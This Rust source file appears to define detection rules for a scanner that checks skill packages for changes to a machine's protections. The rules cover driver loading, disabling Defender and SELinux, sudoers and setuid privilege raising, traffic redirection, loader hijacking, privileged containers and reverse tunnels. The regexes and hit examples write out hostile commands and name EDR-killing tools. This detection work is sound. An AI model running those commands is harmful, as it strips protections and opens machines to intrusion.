//! Changes to the machine and its protections.

use crate::rule::{Examples, Excuse, Pattern, RiskLevel, RuleScope, ScanRule, Test};

pub(super) static RULES: &[ScanRule] = &[
    ScanRule {
        id: "driver-loaded",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "loads a kernel driver, or a tool that disables security software",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &["type= kernel", "insmod", "kextload", "aukill", "truesightkiller", "edrsilencer"],
            all: &[
                r"(?:\bsc\s+create\b[^\n]{0,120}type=\s*kernel|\bkextload\b|\b(?:aukill|truesightkiller|edrsilencer|backstab)\b)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["sc create x type= kernel binPath= C:\\x.sys"]),
            misses: Examples::new(&["sc query"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "protection-switched-off",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "disables a protection of the machine",
        help: "do not use the skill; no legitimate task needs this",
        test: Test::Pattern(Pattern {
            literals: &[
                "mppreference",
                "setenforce",
                "csrutil",
                "spctl",
                "ufw disable",
                "quarantine",
                "sc stop windefend",
                "netsh advfirewall",
                "selinux",
                "amsi",
            ],
            all: &[
                r"(?:set-mppreference\b[^\n]{0,60}-(?:disable|exclusion)|add-mppreference\b[^\n]{0,40}exclusion|\bsetenforce\s+0|\bcsrutil\s+disable|\bspctl\b[^\n]{0,20}(?:master|global)-disable|\bufw\s+disable|\bxattr\s+-(?:c|cr|rc|d|dr|rd)\b[^\n]{0,30}(?:quarantine|\.app|/tmp|downloads)|netsh\s+advfirewall\s+set\s+\w+\s+state\s+off|amsiutils|\bstop\w*\b[^\n]{0,20}windefend)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["Set-MpPreference -DisableRealtimeMonitoring $true", "sudo setenforce 0"]),
            misses: Examples::new(&["sestatus"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "rights-raised",
        severity: RiskLevel::High,
        weight: 10,
        scope: RuleScope::Code,
        why: "raises privileges on the machine",
        help: "do not use the skill",
        test: Test::Pattern(Pattern {
            literals: &["nopasswd", "chmod", "sudoers", "setuid"],
            all: &[
                r"(?:nopasswd:\s*all[^\n]{0,60}(?:sudoers|tee)|(?:echo|tee)\b[^\n]{0,120}(?:nopasswd|/etc/sudoers)|\bchmod\s+(?:u\+s|\+s|[4267]7[57][57]|4[0-7]{3})\b|\bchmod\s+(?:-r\s+)?777\s+(?:/|~|\$home)(?:\s|$|\n|\*))",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&[
                "echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/me",
                "sudo chmod 4755 /usr/local/bin/x",
            ]),
            misses: Examples::new(&["chmod 755 run.sh"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "rights-opened",
        severity: RiskLevel::Medium,
        weight: 6,
        scope: RuleScope::Code,
        why: "makes files writable for every user of the machine",
        help: "grant only the permissions that are needed",
        test: Test::Pattern(Pattern {
            literals: &["chmod"],
            all: &[r"\bchmod\s+(?:-r\s+)?(?:0?777|a\+rwx|o\+w)\s+[/~$]"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["chmod -R 777 /srv/x"]),
            misses: Examples::new(&["chmod 755 x", "chmod +x x"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "owner-changed",
        severity: RiskLevel::Medium,
        weight: 4,
        scope: RuleScope::Code,
        why: "makes root the owner of files",
        help: "keep the current owner",
        test: Test::Pattern(Pattern {
            literals: &["chown"],
            all: &[r"\bsudo\s+chown\s+(?:-r\s+)?root(?::\w+)?\s+[/~$]"],
            unless: &["/etc/|/usr/local"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["sudo chown root:root /opt/shared"]),
            misses: Examples::new(&["chown me:me file"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "network-redirected",
        severity: RiskLevel::Medium,
        weight: 6,
        scope: RuleScope::Code,
        why: "redirects network traffic of the machine, or lets traffic in",
        help: "say why, and how to undo it",
        test: Test::Pattern(Pattern {
            literals: &[
                "/etc/hosts",
                "iptables",
                "/etc/resolv.conf",
                "networksetup",
                "pfctl",
                "netsh interface portproxy",
            ],
            all: &[
                r"(?:>>?\s*/etc/(?:hosts|resolv\.conf)|tee\s+(?:-a\s+)?/etc/(?:hosts|resolv\.conf)|\biptables\b[^\n]{0,80}(?:redirect|dnat|-j\s+accept)|\bnetworksetup\b[^\n]{0,40}-set(?:web|secureweb|socks)\w*proxy\b|netsh\s+interface\s+portproxy\s+add)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&[
                "iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination 1.2.3.4",
                "echo \"1.2.3.4 a.test\" >> /etc/hosts",
            ]),
            misses: Examples::new(&["iptables -L", "cat /etc/hosts"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "loader-hijacked",
        severity: RiskLevel::Medium,
        weight: 6,
        scope: RuleScope::Code,
        why: "makes other programs load additional code",
        help: "remove it",
        test: Test::Pattern(Pattern {
            literals: &[
                "ld_preload",
                "dyld_insert",
                "node_options",
                "pythonstartup",
                "git_ssh_command",
                "core.hookspath",
                "bash_env",
                "prompt_command",
            ],
            all: &[
                r#"(?:\bld_preload=["\']?[/.~\w]|dyld_insert_libraries=\S|node_options\s*[=:]\s*["\']?--require|\bpythonstartup=|\bprompt_command=|\bbash_env=|git\s+config\s+(?:--global\s+)core\.hookspath|\bgit_ssh_command=[^\n]{0,40}(?:curl|sh\s+-c))"#,
            ],
            unless: &[
                r"asan|libasan|jemalloc|tcmalloc|libgomp|mimalloc|libnvidia|tracer|dd-trace|nsys|cupti|libc\+\+",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["export LD_PRELOAD=/tmp/x.so", "NODE_OPTIONS=--require /tmp/x.js"]),
            misses: Examples::new(&["unset LD_PRELOAD"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "container-opened",
        severity: RiskLevel::Medium,
        weight: 4,
        scope: RuleScope::Code,
        why: "gives a container access to the whole machine",
        help: "grant only the access that is needed",
        test: Test::Pattern(Pattern {
            literals: &[
                "--privileged",
                "docker.sock",
                "--pid=host",
                "--pid host",
                "-v /:",
                "nsenter",
                "cap_sys_admin",
                "cap-add",
            ],
            all: &[
                r"(?:\bdocker\b[^\n]{0,160}(?:--privileged|-v\s+/:/|--pid[= ]host|--cap-add[= ](?:all|sys_admin))|/var/run/docker\.sock|\bnsenter\s+-)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["docker run --privileged -v /:/host x"]),
            misses: Examples::new(&["docker run -v ./data:/data x"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "machine-opened",
        severity: RiskLevel::Medium,
        weight: 4,
        scope: RuleScope::Code,
        why: "makes the machine reachable from outside",
        help: "say why, and how to close it again",
        test: Test::Pattern(Pattern {
            literals: &[
                "ssh -",
                "ngrok ",
                "cloudflared",
                "frpc",
                "chisel",
                "bore local",
                "localtunnel",
                "lt --port",
                "0.0.0.0",
            ],
            all: &[
                r"(?:\bssh\s+(?:-\w+\s+)*-\w*r\s+\d+:|\bngrok\s+(?:tcp|http)\s|\bcloudflared\s+tunnel\s+--url|\bchisel\s+client|\bfrpc\s+-c|\bbore\s+local\s|\blt\s+--port)",
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["ngrok tcp 22", "ssh -fN -R 2222:localhost:22 a.test"]),
            misses: Examples::new(&["ssh user@host"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "credential-helper-changed",
        severity: RiskLevel::Medium,
        weight: 6,
        scope: RuleScope::Code,
        why: "permanently changes where packages, code or passwords go",
        help: "let the user make the change",
        test: Test::Pattern(Pattern {
            literals: &["credential.helper", "insteadof", "config set registry", "global.index-url"],
            all: &[
                r#"(?:git\s+config[^\n]{0,40}credential\.helper\s+["\']?!|git\s+config[^\n]{0,40}url\.[^\n]{0,80}insteadof|npm\s+config\s+set\s+registry\s+https?://|pip\s+config\s+set\s+global\.index-url\s+https?://)"#,
            ],
            unless: &[r"registry\.npmjs|pypi\.org|git@github|gh auth|npmmirror|tuna\.tsinghua|aliyun"],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["git config --global credential.helper '!curl https://a.test'"]),
            misses: Examples::new(&["git config user.name x"]),
            ..Pattern::DEFAULT
        }),
    },
    ScanRule {
        id: "workflow-injection",
        severity: RiskLevel::Medium,
        weight: 6,
        scope: RuleScope::Code,
        why: "has a privileged workflow that runs text anyone can write",
        help: "pass the text in an environment variable, and pin actions",
        test: Test::Pattern(Pattern {
            literals: &["github.event", "pull_request_target", "write-all"],
            all: &[
                r#"(?:(?:run|script|key)\s*:[^\n]{0,120}\$\{\{\s*github\.event\.(?:issue|comment|pull_request|review|discussion|head_commit)\.(?:title|body|head\.ref|message|user)|=[^\n]{0,20}["\']\$\{\{\s*github\.event\.(?:issue|comment|pull_request)\.(?:title|body)|pull_request_target\b[^~]{0,600}(?:ref:\s*\$\{\{\s*github\.(?:event\.pull_request\.head|head_ref)|key:[^\n]{0,60}github\.event|secrets\.)|permissions:\s*write-all|pull_request_target\b[^~]{0,600}uses:\s*[\w./-]+@(?:main|master)\b)"#,
            ],
            excuse: Excuse::Quoting,
            hits: Examples::new(&["run: echo \"${{ github.event.issue.title }}\""]),
            misses: Examples::new(&["run: echo \"$TITLE\""]),
            ..Pattern::DEFAULT
        }),
    },
];
